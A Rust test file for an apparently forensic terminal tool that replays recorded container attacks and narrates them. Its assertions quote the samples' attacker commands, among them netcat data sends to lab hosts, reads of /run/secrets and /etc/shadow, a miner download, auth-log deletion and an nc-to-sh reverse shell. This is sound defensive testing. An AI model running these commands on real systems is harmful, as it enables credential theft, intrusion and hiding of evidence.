//! What the samples' stories, maps, files and terminals must tell somebody who has only them.

use crate::keys::{press, type_in};
use crate::story::{self, Call, who};
use crossterm::event::KeyCode;
use ratatui::layout::Rect;
use std::collections::BTreeSet;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;
use taffrail_query::Session;
use taffrail_tui::state::Action;
use taffrail_tui::state::recording::Kind;
use taffrail_tui::view::pages;
use taffrail_tui::{Bundles, State, load, screen_text};

pub fn samples(names: &[&str]) -> State {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../sample-traces");
    let paths: Vec<PathBuf> = names.iter().map(|name| dir.join(format!("{name}.evidence.zip"))).collect();
    let runtime = tokio::runtime::Builder::new_current_thread().build().expect("a runtime");
    let session = Arc::new(runtime.block_on(Session::open(&paths)).expect("a session"));
    let mut state = load(&session).expect("the samples load");
    state.asker = Some(Arc::new(Bundles(session)));
    state
}

/// A sample at its end, in the view of a key.
fn ended(sample: &str, key: char) -> State {
    let mut state = samples(&[sample]);
    press(&mut state, KeyCode::Char(key));
    press(&mut state, KeyCode::End);
    state
}

/// The story, with `#` for the numbers of processes: they are others whenever the samples are recorded anew.
pub fn told(state: &State) -> Vec<String> {
    let without_pids = |text: &str| {
        let mut parts = text.split('(');
        let mut told = parts.next().unwrap_or_default().to_owned();
        for part in parts {
            let rest = part.trim_start_matches(|digit: char| digit.is_ascii_digit());
            let is_pid = rest.len() < part.len() && rest.starts_with(')');
            told = if is_pid { format!("{told}(#{rest}") } else { format!("{told}({part}") };
        }
        told
    };
    state.story.iter().map(|sentence| without_pids(&sentence.text)).collect()
}

/// Whether one sentence has all of these words.
pub fn tells(state: &State, words: &[&str]) {
    let told = told(state);
    let found = told.iter().any(|text| words.iter().all(|word| text.contains(word)));
    assert!(found, "{words:?} is in none of {told:#?}");
}

fn filter(state: &mut State, text: &str) {
    press(state, KeyCode::Char('f'));
    type_in(state, text);
    press(state, KeyCode::Enter);
    state.wait();
}

#[test]
fn the_story_tells_every_program_that_the_intruder_ran_whether_a_rule_knew_it_or_not() {
    for (sample, commands) in [
        ("theft-and-scan", &["nc -w 1 10.20.0.1 443", "nc -w 1 10.20.0.9 443", "rm /tmp/.loot /tmp/.role"][..]),
        ("io-uring", &["uring-steal /etc/shadow", "uring-unlink /tmp/trace"]),
        ("fileless", &["workloads fileless http", "/bin/sh status` as process", "/bin/sh -s` in its own place"]),
        ("dropped-miner", &["wget -q -O /tmp/.kdevtmpfsi", "chmod 755", "rm -f /var/log/auth.log"]),
    ] {
        let state = samples(&[sample]);
        commands.iter().for_each(|command| tells(&state, &[" ran `", command]));
    }
}

#[test]
fn the_story_tells_where_the_loot_went_what_was_fetched_and_what_was_removed() {
    let theft = samples(&["theft-and-scan"]);
    tells(&theft, &["nc (#) connected to 10.20.0.1:443, sent 64 B"]);
    tells(&theft, &["nc (#) connected to 10.20.0.9:443, sent 64 B"]);
    tells(&theft, &["rm (#) removed /tmp/.loot"]);
    let fileless = samples(&["fileless"]);
    tells(&fileless, &["workloads (#) connected to 10.20.0.9:80", "received 1.7 MB"]);
    tells(&fileless, &["memfd_create"]);
    tells(&fileless, &["opened", "/etc/passwd"]);
    tells(&samples(&["io-uring"]), &["workloads (#) removed /tmp/trace"]);
}

#[test]
fn the_story_begins_with_the_connection_that_the_intruder_came_by() {
    for (sample, server) in [("theft-and-scan", "httpd (#)"), ("fileless", "httpd (#)")] {
        tells(
            &samples(&[sample]),
            &[
                "Of the connections of ",
                server,
                " told above, that from 10.20.0.5:",
                ", is probably the request that process ",
                " came of: the last before",
            ],
        );
    }
}

#[test]
fn the_story_begins_at_its_beginning_where_that_fits_and_says_how_much_is_above_where_not() {
    let mut state = samples(&["reverse-shell"]);
    press(&mut state, KeyCode::Char('1'));
    let screen = screen_text(&state, 120, 40);
    assert!(screen.contains("The container was created") && screen.contains(" ran `nc 127"), "{screen}");
    let mut state = samples(&["theft-and-scan"]);
    press(&mut state, KeyCode::Char('1'));
    for (width, height) in [(80, 24), (120, 40)] {
        let screen = screen_text(&state, width, height);
        let said = screen.lines().find(|line| line.contains("before this, Home shows the first")).unwrap_or_default();
        let above = said.split_whitespace().find_map(|word| word.parse::<usize>().ok());
        let above = above.unwrap_or_else(|| panic!("a number\n{screen}"));
        let first = state.story[above].text.chars().take(30).collect::<String>();
        assert!(screen.contains(&first), "{above}: {first}\n{screen}");
    }
    press(&mut state, KeyCode::Home);
    let screen = screen_text(&state, 80, 24);
    assert!(screen.contains("The container was created") && !screen.contains("before this"), "{screen}");
}

#[test]
fn refused_connections_are_one_moment_with_their_number_their_network_and_their_ports() {
    let state = samples(&["theft-and-scan"]);
    let refused: Vec<String> = told(&state).into_iter().filter(|text| text.contains("ECONNREFUSED")).collect();
    assert!(refused.len() <= 4, "{refused:#?}");
    tells(&state, &["workloads (#) could not connect", "10.20.0.0/24", "22, 5432", "ECONNREFUSED"]);
    assert!(state.story.len() < 80, "{} moments", state.story.len());
}

#[test]
fn the_story_says_of_how_many_events_it_is_and_that_it_tells_none_of_those_that_pass() {
    let mut state = samples(&["theft-and-scan"]);
    press(&mut state, KeyCode::Char('1'));
    let screen = screen_text(&state, 120, 40);
    let title = format!("of {} moments from {} events", state.story.len(), state.timeline.len());
    assert!(screen.contains(&title), "{title}\n{screen}");
    filter(&mut state, "proc.name = nc");
    press(&mut state, KeyCode::Char('1'));
    assert!(!state.sentences().is_empty(), "{}", screen_text(&state, 120, 40));
}

#[test]
fn a_finding_that_comes_again_is_told_once_with_its_number_and_says_its_name_once() {
    let state = samples(&["docker-socket"]);
    let mut findings = told(&state)
        .into_iter()
        .filter(|text| text.starts_with("Container runtime's socket used (") || text.starts_with("Host's secrets"))
        .collect::<Vec<_>>();
    let all = findings.len();
    findings.dedup();
    assert_eq!(findings.len(), all, "{findings:#?}");
    assert!(state.story.iter().any(|sentence| sentence.kind == Kind::Finding && sentence.times == 5));
    let screen = screen_text(&samples(&["reverse-shell"]), 160, 40);
    assert!(!screen.contains("Netcat gives a program away: Netcat"), "{screen}");
}

#[test]
fn a_filter_that_leaves_events_but_no_moment_is_not_told_as_nothing() {
    let mut state = story::incident();
    filter(&mut state, "index.php");
    assert!(state.visible.len() > 1);
    press(&mut state, KeyCode::Char('1'));
    let screen = screen_text(&state, 120, 40);
    let wanted = format!("The story tells none of these {} events; 2 shows them.", state.visible.len());
    assert!(screen.contains(&wanted), "{wanted}\n{screen}");
}

#[test]
fn a_line_that_was_typed_without_an_end_is_typed_all_the_same() {
    for (sample, last) in [
        ("fileless", "fileless http://10.20.0.9/update"),
        ("io-uring", "uring-unlink /tmp/trace"),
        ("dropped-miner", "/var/log/auth.log"),
        ("host-mount", "chroot"),
        ("theft-and-scan", "rm /tmp/.loot /tmp/.role"),
    ] {
        let state = samples(&[sample]);
        let typed: Vec<String> = told(&state).into_iter().filter(|text| text.contains(" was given ")).collect();
        assert!(typed.iter().any(|text| text.contains(last)), "{sample}: {last} is not in {typed:#?}");
    }
}

#[test]
fn what_the_story_leaves_out_of_a_long_moment_it_says_with_its_number() {
    let lines: String = (1..=40).map(|line| format!("echo line {line}\n")).collect();
    let mut state = story::incident_with(|rows| story::terminal(rows, 3_000, &lines, ""));
    press(&mut state, KeyCode::Char('1'));
    press(&mut state, KeyCode::Home);
    let screen = screen_text(&state, 120, 60);
    let shown = (1..=40).filter(|line| screen.contains(&format!("echo line {line} "))).count();
    assert!((8..40).contains(&shown), "{shown}\n{screen}");
    assert!(screen.contains(&format!("\u{2026} {} more lines, 6 shows them", 40 - shown)), "{screen}");
}

#[test]
fn the_replay_begins_at_the_first_of_the_worst_and_says_how_many_there_are() {
    for (sample, banner) in [
        ("fileless", "CRITICAL  2 critical: Program run from memory"),
        ("theft-and-scan", "CRITICAL  1 critical, 9 warning: Credentials read, then a connection"),
        ("host-mount", "CRITICAL  5 critical, 2 warning:"),
    ] {
        let mut state = samples(&[sample]);
        let screen = screen_text(&state, 120, 40);
        assert!(screen.contains(banner), "{banner}\n{screen}");
        assert!(screen.contains("sealed: manual"), "{screen}");
        let alarm = state.alarm.expect("findings");
        assert_eq!(state.at, alarm.time);
        let finding = state.current().expect("an event");
        assert_eq!(finding.body.kind(), Kind::Finding);
        // The trigger is a key away.
        press(&mut state, KeyCode::Char('t'));
        assert_eq!(state.at, state.recording.about.trigger);
    }
    let quiet = samples(&["day-in-the-life"]);
    assert!(quiet.alarm.is_none());
    assert_eq!(quiet.at, quiet.recording.about.trigger);
    assert!(screen_text(&quiet, 120, 40).contains(" INFO  manual"));
}

#[test]
fn the_strip_shows_where_something_happened_and_the_whole_window_on_request() {
    let mut state = samples(&["theft-and-scan"]);
    let window = (state.recording.about.from, state.recording.about.to);
    let (from, to) = state.strip_range();
    assert!(to - from < 1_000_000_000, "the attack took a fifth of a second: {} ns", to - from);
    assert!((from..=to).contains(&state.at));
    assert!(screen_text(&state, 120, 40).contains("(- whole window)"));
    press(&mut state, KeyCode::Char('-'));
    assert_eq!(state.strip_range(), window);
    press(&mut state, KeyCode::Char('+'));
    assert_eq!(state.strip_range(), (from, to));
    press(&mut state, KeyCode::Char('t'));
    assert!(state.strip_range().1 >= state.at, "the playhead is always on the strip");
}

#[test]
fn playing_on_where_nothing_happens_any_more_does_not_stretch_the_strip_frame_by_frame() {
    let mut state = samples(&["theft-and-scan"]);
    state.apply(Action::SkipIdle);
    state.apply(Action::PlayOrPause);
    let mut ranges = vec![state.strip_range()];
    for _ in 0..200 {
        state.apply(Action::Tick(Duration::from_millis(33)));
        assert!((state.strip_range().0..=state.strip_range().1).contains(&state.at));
        ranges.push(state.strip_range());
    }
    ranges.dedup();
    assert!((2..8).contains(&ranges.len()), "{ranges:?}");
    assert!(ranges.windows(2).all(|pair| pair[1].1 - pair[1].0 > (pair[0].1 - pair[0].0) * 4 / 3), "{ranges:?}");
}

#[test]
fn of_several_bundles_every_moment_process_edge_and_terminal_names_its_container() {
    let mut state = samples(&["docker-socket", "docker-socket-maintenance", "host-mount"]);
    let created: Vec<String> = told(&state).into_iter().filter(|text| text.contains("was created")).collect();
    assert!(
        created.len() >= 3 && created.iter().all(|text| text.contains(": The container was created")),
        "{created:?}"
    );
    for (key, wanted) in [('3', "[host-mount-"), ('4', " host-mount-"), ('6', " in host-mount-")] {
        press(&mut state, KeyCode::Char(key));
        press(&mut state, KeyCode::End);
        let screen = screen_text(&state, 160, 60);
        assert!(screen.contains(wanted), "{wanted}\n{screen}");
    }
}

#[test]
fn flows_that_were_answered_stand_alone_while_refused_ones_are_brought_together() {
    let mut state = ended("theft-and-scan", '4');
    let screen = screen_text(&state, 120, 40);
    for (who, address) in [("nc", "10.20.0.1"), ("nc", "10.20.0.9"), ("wget", "169.254.169.254")] {
        let has = |line: &&str| [who, address].iter().all(|word| line.split_whitespace().any(|part| part == *word));
        let line = screen.lines().find(has).unwrap_or_default();
        assert!(line.contains('\u{2191}'), "{who} {address}: {line}\n{screen}");
    }
    assert!(screen.contains("10.20.0.0/24 refused"), "{screen}");
    state.apply(Action::FoldAll);
    let unfolded = screen_text(&state, 120, 200);
    let refused = unfolded.lines().filter(|line| line.contains("  refused "));
    let host = |line: &str| line.split_whitespace().find(|word| word.starts_with("10.20.0.")).map(str::to_owned);
    let shown: Vec<String> = refused.filter_map(host).collect();
    let mut sorted = shown.clone();
    sorted.sort_by_key(|host| host.rsplit('.').next().and_then(|last| last.parse::<u8>().ok()));
    assert!(shown.len() > 30, "{shown:?}");
    assert_eq!(shown, sorted);
}

#[test]
fn what_the_runtime_prepared_is_one_line_and_a_directory_is_no_program() {
    let mut state = ended("fileless", '5');
    let screen = screen_text(&state, 120, 40);
    assert!(!screen.contains("overlay2"), "{screen}");
    assert!(screen.contains("+ from outside the container, by its runtime as a rule  "), "{screen}");
    assert!(screen.contains("in memory") && screen.contains("memfd:"), "{screen}");
    assert!(screen.contains("+ made  ~ written"), "the signs are explained:\n{screen}");
    state.apply(Action::FoldAll);
    let unfolded = screen_text(&state, 160, 80);
    assert!(unfolded.contains("overlay2") && !unfolded.contains("executable"), "{unfolded}");
}

#[test]
fn who_ended_within_the_last_minute_is_still_among_the_processes() {
    let mut state = ended("reverse-shell", '3');
    let screen = screen_text(&state, 160, 60);
    for name in ["id ", "cat ", "wget ", ".update "] {
        let line = screen.lines().find(|line| line.contains(&format!(" {name}"))).unwrap_or_default();
        assert!(line.contains("ended"), "{name}\n{screen}");
    }
    press(&mut state, KeyCode::Home);
    assert!(!screen_text(&state, 160, 60).contains(" wget "), "not before its time");
}

#[test]
fn a_script_that_came_over_a_pipe_is_read_as_a_whole_at_any_size() {
    let mut state = ended("theft-and-scan", '6');
    let wide = screen_text(&state, 120, 40);
    for words in ["cat /run/secrets", "nc -w 1 10.20.0.9 443", "rm /tmp/.loot"] {
        assert!(wide.contains(words), "{words}\n{wide}");
    }
    press(&mut state, KeyCode::Tab);
    state.pages = pages(&state, Rect::new(0, 0, 80, 17));
    let mut seen = String::new();
    for _ in 0..30 {
        seen.push_str(&screen_text(&state, 80, 17));
        press(&mut state, KeyCode::Down);
    }
    for words in
        ["what was given in terminal", "cat /run/secrets", "scan 10.20.0", "nc -w 1 10.20.0.9 443", "rm /tmp/.loot"]
    {
        assert!(seen.contains(words), "{words}\n{}", screen_text(&state, 80, 17));
    }
    // The last line stays at the bottom, so that the first key back is seen.
    let screen = screen_text(&state, 80, 17);
    assert!(screen.contains("nc -w 1 10.20.0.9") && screen.contains("rm /tmp/.loot /tmp/.role"), "{screen}");
    press(&mut state, KeyCode::Up);
    assert_ne!(screen_text(&state, 80, 17), screen);
    press(&mut state, KeyCode::Tab);
    assert!(state.typed_from.is_none());
}

#[test]
fn keys_that_came_one_by_one_stand_as_the_lines_that_they_made() {
    let mut state = ended("day-in-the-life", '6');
    let beside = screen_text(&state, 120, 40);
    let lines: Vec<String> = state
        .story
        .iter()
        .filter_map(|told| told.text.strip_prefix("Somebody typed `"))
        .map(|line| line.replace('`', ""))
        .collect();
    let last = lines.last().expect("a line");
    assert!(lines.len() > 5 && beside.contains(last.as_str()), "{last}\n{beside}");
    press(&mut state, KeyCode::Tab);
    let screen = screen_text(&state, 160, 200);
    for line in &lines {
        assert!(screen.contains(&format!(" {line} ")), "{line}\n{screen}");
    }
}

#[test]
fn a_service_that_answers_and_asks_all_day_takes_two_moments_however_much_it_does() {
    let state = story::incident_with(|rows| {
        for number in 0..300 {
            let remote = format!("198.51.100.{}:443", number % 7);
            let call = Call {
                op: "connect",
                local: "172.17.0.4:40000",
                remote: Some(&remote),
                end: Some(-9_000 + number),
                bytes: (10, 20),
                result: 0,
            };
            story::flow(rows, -10_000 + number, who(4, 2251, "httpd"), &call);
        }
    });
    tells(&state, &["httpd connected 300 times to 7 addresses of 198.51.100.0/24", "sent 3.0 kB and received 6.0 kB"]);
    tells(&state, &["httpd accepted 9 connections at 172.17.0.4:80", "198.51.100.0/24"]);
    let servers = told(&state).iter().filter(|text| text.starts_with("httpd")).count();
    assert!(servers <= 5, "{:#?}", told(&state));
    assert!(state.story.iter().is_sorted_by_key(|sentence| sentence.event));
}

#[test]
fn an_edge_of_several_processes_is_not_given_to_one_of_them() {
    let state = ended("day-in-the-life", '4');
    let several = state.map.edges.iter().find(|edge| edge.processes > 1).expect("copies of a server");
    let image = several.image.and_then(|image| state.recording.image(image)).expect("an image");
    let (name, pid) = (state.recording.text(image.comm), image.pid);
    let screen = screen_text(&state, 120, 40);
    assert!(screen.contains(&format!("{name} \u{d7}{}", several.processes)), "{screen}");
    assert!(!screen.contains(&format!("{name} {pid} ")), "{screen}");
    let state = ended("theft-and-scan", '4');
    assert!(state.map.edges.iter().any(|edge| edge.processes == 1));
}

#[test]
fn a_key_shows_the_processes_of_the_whole_record_and_another_press_those_of_the_moment_again() {
    let mut state = samples(&["reverse-shell"]);
    press(&mut state, KeyCode::Char('3'));
    press(&mut state, KeyCode::Home);
    assert!(!screen_text(&state, 160, 60).contains(" wget "), "not before its time");
    press(&mut state, KeyCode::Char('A'));
    let screen = screen_text(&state, 160, 60);
    let inside = state.recording.images.iter().filter(|image| image.inside);
    let processes: BTreeSet<u32> = inside.map(|image| image.process).collect();
    let shown: BTreeSet<u32> = state.moment.rows.iter().map(|row| row.process).collect();
    assert!(processes.is_subset(&shown), "{screen}");
    for name in ["nc ", "cat ", "wget ", ".update "] {
        let line = screen.lines().find(|line| line.contains(&format!(" {name}"))).unwrap_or_default();
        assert!(name == "nc " || line.contains("later"), "{name}\n{screen}");
    }
    press(&mut state, KeyCode::End);
    let screen = screen_text(&state, 160, 60);
    assert!(
        screen.contains("all processes at") && screen.contains(" 0 later ") && !screen.contains(" wget later"),
        "{screen}"
    );
    press(&mut state, KeyCode::Home);
    press(&mut state, KeyCode::Char('A'));
    assert!(!screen_text(&state, 160, 60).contains(" wget "));
    press(&mut state, KeyCode::Char('2'));
    press(&mut state, KeyCode::Char('A'));
    assert!(state.all_processes && screen_text(&state, 160, 60).contains(" wget "));
}

#[test]
fn a_process_that_ran_one_program_after_the_other_is_told_by_all_their_names() {
    let tree = screen_text(&ended("reverse-shell", '3'), 160, 40);
    assert!(tree.contains("nc\u{2192}sh "), "{tree}");
    let mut state = samples(&["reverse-shell"]);
    press(&mut state, KeyCode::Char('4'));
    assert!(!screen_text(&state, 160, 40).contains("nc\u{2192}sh "), "it runs nc now");
    state.apply(Action::Seconds(1));
    let map = screen_text(&state, 160, 40);
    assert!(map.contains("nc\u{2192}sh ") && map.contains("left: when it was used last"), "{map}");
}

#[test]
fn a_story_that_has_room_is_not_cut() {
    let state = ended("docker-socket", '1');
    assert!(!screen_text(&state, 150, 60).contains("more lines, "));
    assert!(screen_text(&state, 60, 60).contains("more lines, "));
}

#[test]
fn what_a_file_operation_was_like_is_told() {
    tells(&samples(&["io-uring"]), &["removed /tmp/trace through io_uring"]);
    tells(&samples(&["theft-and-scan"]), &["set the length of /tmp/.role to 27 B"]);
    tells(&samples(&["day-in-the-life"]), &["changed the mode of /usr/bin"]);
}
